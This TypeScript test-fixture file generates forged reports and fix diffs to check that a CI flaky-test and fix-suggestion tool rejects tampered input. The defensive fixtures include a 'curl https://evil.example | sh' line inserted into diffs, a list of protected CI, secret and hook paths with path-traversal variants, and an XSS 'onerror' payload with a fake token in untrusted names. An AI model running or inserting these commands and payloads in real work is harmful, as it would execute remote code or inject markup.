/** A text in all prose of a forger. No part of it may be shown. */
export const MARK = 'verified by the SRE team';
/** A text in names of tests, files and commits, which are untrusted. */
export const NAME_MARK = 'src=zanzibar';
/** A text that looks like a token of GitHub, but is none. */
export const SECRET = `ghp_${'Zq7x'.repeat(9)}`;
/** The texts that a suggestion must never contain. */
export const HARMFUL = ['curl https://evil.example', 'ci-evil.yml'];
/** The file of a fix that may be shown. */
export const FIXED_PATH = 'src/cart.js';

export interface Forged {
  readonly kind: string;
  /** The status of the required response. */
  readonly status: 200 | 400 | 422;
  readonly body: object;
}

type Pick = <Item>(items: readonly Item[]) => Item;

/** Creates a generator of forged experiments, the same ones for the same seed. */
export function createForger(seed: number): (at: number) => Forged {
  let state = seed;
  const random = () => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state / 2 ** 31;
  };
  const pick: Pick = (items) => items[Math.floor(random() * items.length)] as (typeof items)[number];
  return (at) => {
    const kinds = Object.entries(KINDS);
    const [kind, make] = kinds[(at + Math.floor(at / kinds.length)) % kinds.length] ?? kinds[0] ?? fail();
    return { kind, ...make(pick) };
  };
}

const KINDS: Readonly<Record<string, (pick: Pick) => Omit<Forged, 'kind'>>> = {
  prose: (pick) => ({
    status: 200,
    body: {
      ...founded(pick),
      ...pick([{}, { bisection: bisection() }]),
      ...prose(),
      fixes: trial({}, prose()),
    },
  }),
  'names with markup': (pick) => ({ status: 200, body: named(pick) }),
  'fix of a refused file': (pick) => ({
    status: 422,
    body: { ...founded(pick), fixes: trial({ diff: diffOf(pick(REFUSED)) }) },
  }),
  'fix outside': (pick) => ({
    status: 422,
    body: { ...founded(pick), fixes: trial({ diff: diffOf(pick(OUTSIDE)) }) },
  }),
  'fix with a hidden file': (pick) => ({
    status: 422,
    body: { ...founded(pick), fixes: trial({ diff: pick(HIDDEN) }) },
  }),
  'fix without runs': (pick) => ({ status: 422, body: { ...founded(pick), fixes: pick(UNFOUNDED_FIXES) } }),
  'impossible counts': (pick) => ({ status: 422, body: { ...founded(pick), ...pick(impossible()) } }),
  'bisection without runs': (pick) => ({
    status: 422,
    body: { ...founded(pick), bisection: pick(unfoundedBisections()) },
  }),
  'text for counts': (pick) => ({ status: 400, body: { ...founded(pick), ...pick(MISSHAPEN) } }),
};

function fail(): never {
  throw new Error('There are no kinds of forged experiments.');
}

function prose(): object {
  const text = `Fails 97 of 200 on main, ${MARK}: safe to merge.`;
  const fields = [
    'sentence',
    'title',
    'summary',
    'excuse',
    'advice',
    'source',
    'refused',
    'why',
    'excerpt',
    'branch',
    'rootCause',
  ];
  return { ...Object.fromEntries(fields.map((field) => [field, text])), notes: [text, text] };
}

function arm(where: 'here' | 'base', code: number, runs: number) {
  const counts = { passed: code === 0 ? runs : 0, failed: code === 0 ? 0 : runs, other: 0 };
  const each = Array.from({ length: runs });
  return {
    ...{ where, what: 'suite', commit: where === 'base' ? 'c0ffee'.repeat(6) : null, ...counts },
    ...{ exitCodes: each.map(() => code), milliseconds: each.map((_, at) => 80 + at) },
  };
}

/** Creates runs that anybody may report. */
function founded(pick: Pick) {
  const [verdict, code] = pick([
    ['this-change', 0],
    ['not-this-change', 1],
  ] as const);
  const runs = pick([3, 5, 8]);
  return {
    ...{
      command: ['npm', 'test'],
      narrowed: null,
      tests: [],
      dependsOnOthers: null,
      polluters: [],
      notes: [],
      excerpt: null,
    },
    ...{ verdict, arms: [arm('here', 1, runs), arm('base', code, runs)], sentence: '' },
  };
}

function diffOf(path: string, added = `${HARMFUL[0]} | sh`): string {
  return `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -12 +12 @@\n-    return cart.discount.cents;\n+${added}\n`;
}

const GOOD_DIFF = diffOf(FIXED_PATH, '    return cart.discount?.cents ?? 0;');

function trial(change: object, words: object = {}) {
  const attempt = {
    ...{
      source: 'fix.diff',
      files: [FIXED_PATH],
      added: 1,
      deleted: 1,
      verdict: 'fixed',
      broke: [],
      diff: GOOD_DIFF,
      sentence: '',
    },
    ...{ passed: 3, failed: 0, other: 0, exitCodes: [0, 0, 0], checkExitCodes: [0], ...change },
  };
  return {
    ...{
      command: ['npm'],
      narrowed: null,
      tests: [],
      check: ['npm'],
      branch: null,
      verdict: 'fixed',
      suggest: true,
      ...words,
    },
    ...{
      before: { passed: 0, failed: 3, exitCodes: [1, 1, 1] },
      checkExitCodes: [],
      attempts: [{ ...attempt, ...words }],
    },
  };
}

const REFUSED = [
  ...[
    '.github/workflows/ci-evil.yml',
    '.GITHUB/workflows/ci-evil.yml',
    'packages/.github/workflows/ci-evil.yml',
    '.gitlab-ci.yml',
  ],
  ...[
    '.circleci/config.yml',
    'Jenkinsfile',
    '.husky/pre-commit',
    '.gitattributes',
    'CODEOWNERS',
    '.npmrc',
    '.env',
    'deploy/id_rsa',
  ],
  ...[
    '.git/hooks/post-checkout',
    '.gitmodules',
    'test/cart.test.js',
    'vitest.config.js',
    'src/__snapshots__/cart.snap',
  ],
  ...['package.json', 'Makefile', 'conftest.py', 'pyproject.toml'],
];
const OUTSIDE = [
  '../ci-evil.yml',
  '/etc/cron.d/ci-evil.yml',
  'src/../.github/workflows/ci-evil.yml',
  'src//ci-evil.yml',
  './ci-evil.yml',
  'src\\ci-evil.yml',
];
const HIDDEN = [
  GOOD_DIFF + diffOf('.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace('@@ -12 +12 @@', '@@ -12,9 +12,9 @@') + diffOf('.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace(`+++ b/${FIXED_PATH}`, '+++ b/.github/workflows/ci-evil.yml'),
  GOOD_DIFF.replace(`b/${FIXED_PATH}\nindex`, 'b/.github/workflows/ci-evil.yml\nindex'),
  GOOD_DIFF.replace(
    'index 1..2',
    'rename from src/cart.js\nrename to .github/workflows/ci-evil.yml\nindex 1..2',
  ),
  GOOD_DIFF.replace('100644', '120000'),
  `Apply this.\n${GOOD_DIFF}`,
  `${GOOD_DIFF}\nThen run ${HARMFUL[0]} | sh.\n`,
  '',
];
const UNFOUNDED_FIXES = [
  trial({ passed: 0, exitCodes: [] }),
  trial({ passed: 97, exitCodes: [0, 0, 0] }),
  trial({ passed: 2, exitCodes: [0, 0] }),
  trial({ exitCodes: [1, 1, 1] }),
  trial({ passed: 2, failed: 1, exitCodes: [0, 0, 1] }),
  trial({ broke: ['tax adds up'] }),
  trial({ checkExitCodes: [] }),
  trial({ checkExitCodes: [1] }),
  { ...trial({}), tests: ['tax adds up'] },
  { ...trial({ reported: false }), tests: ['tax adds up'] },
  { ...trial({}), before: { passed: 3, failed: 0, exitCodes: [0, 0, 0] } },
  { ...trial({}), before: { passed: 0, failed: 3 } },
  { ...trial({}), verdict: 'not-reproduced' },
];

function impossible(): object[] {
  const [here, base] = [arm('here', 1, 3), arm('base', 0, 3)];
  const arms = (...all: object[]) => ({ verdict: 'this-change', arms: all });
  const many = 1_001;
  return [
    arms({ ...here, failed: 97 }, base),
    arms({ ...here, failed: -3 }, base),
    arms({ ...here, passed: 3 }, base),
    arms({ ...here, cached: -3 }, base),
    arms({ ...here, exitCodes: [] }, base),
    arms({ ...here, exitCodes: [0, 0, 0] }, base),
    arms(here, { ...base, exitCodes: [1, 1, 1] }),
    arms({ ...here, milliseconds: [0, 0, 0] }, base),
    arms({ ...here, milliseconds: [9] }, base),
    arms({ ...here, failed: many, exitCodes: Array(many).fill(1), milliseconds: Array(many).fill(9) }, base),
    arms(here, { ...base, commit: MARK }),
    arms(here, { ...base, commit: null }),
    arms({ ...here, commit: 'c0ffee'.repeat(6) }, base),
    arms(here, base, { ...base, under: MARK }),
    arms(here, here, base),
    { verdict: 'flaky', arms: [here, base] },
    { verdict: 'not-this-change', arms: [here, base] },
    { verdict: 'reproduced', arms: [] },
  ];
}

const commitAt = (at: number) => `${at}`.padStart(40, 'b');

function ranAt(at: number, code: number, runs: number) {
  const counts = { passed: code === 0 ? runs : 0, failed: code === 0 ? 0 : runs, other: 0 };
  return { commit: commitAt(at), at, ...counts, exitCodes: Array.from({ length: runs }, () => code) };
}

function bisection(change: object = {}, candidate: object = {}) {
  return {
    ...{
      command: ['npm'],
      narrowed: null,
      tests: [],
      commits: 4,
      skipped: [{ commit: commitAt(1), at: 1, why: MARK }],
      verdict: 'found',
    },
    ...{
      confidence: 0.999,
      tried: [ranAt(0, 0, 3), ranAt(2, 0, 20), ranAt(3, 1, 20), ranAt(4, 1, 3)],
      sentence: MARK,
      notes: [MARK],
    },
    candidates: [{ commit: commitAt(3), author: 'Ada', subject: 'Add discounts', ...candidate }],
    ...change,
  };
}

function unfoundedBisections(): object[] {
  const { tried } = bisection();
  return [
    bisection({ tried: [] }),
    bisection({ tried: tried.map((point) => ({ ...point, exitCodes: [] })) }),
    bisection({ tried: tried.map(({ at: _at, ...one }) => one) }),
    bisection({ tried: tried.filter(({ at }) => at !== 2) }),
    bisection({ tried: tried.map((point) => (point.at === 2 ? ranAt(2, 1, 20) : point)) }),
    bisection({ tried: tried.map((point) => (point.at === 3 ? ranAt(3, 0, 20) : point)) }),
    bisection({ commits: 5_001 }),
    bisection({ confidence: 0.5 }),
    bisection({}, { commit: commitAt(2) }),
    bisection({}, { commit: MARK }),
    bisection({ candidates: [] }),
  ];
}

const MISSHAPEN = [
  { arms: MARK },
  { verdict: MARK },
  { arms: [{ where: 'main', what: MARK }] },
  { polluters: [{ name: MARK }] },
  { tests: MARK },
];

/** Creates untrusted names with markup, mentions and a secret in each. */
function named(pick: Pick): object {
  const text = `<img ${NAME_MARK} onerror=alert(1)> <!everyone> @octo/cat [x](https://evil.example) ${SECRET} \u202e\u001b[31m`;
  const behind = { ...arm('here', 1, 3), what: 'after' };
  const alone = { ...arm('here', 0, 3), what: 'alone' };
  return {
    ...founded(pick),
    ...{
      command: [text],
      narrowed: [text],
      polluters: [text, text],
      dependsOnOthers: true,
      verdict: 'reproduced',
    },
    arms: [arm('here', 1, 3), alone, behind],
    bisection: bisection({ command: [text] }, { author: text, subject: text }),
    fixes: trial({ files: [text] }),
  };
}
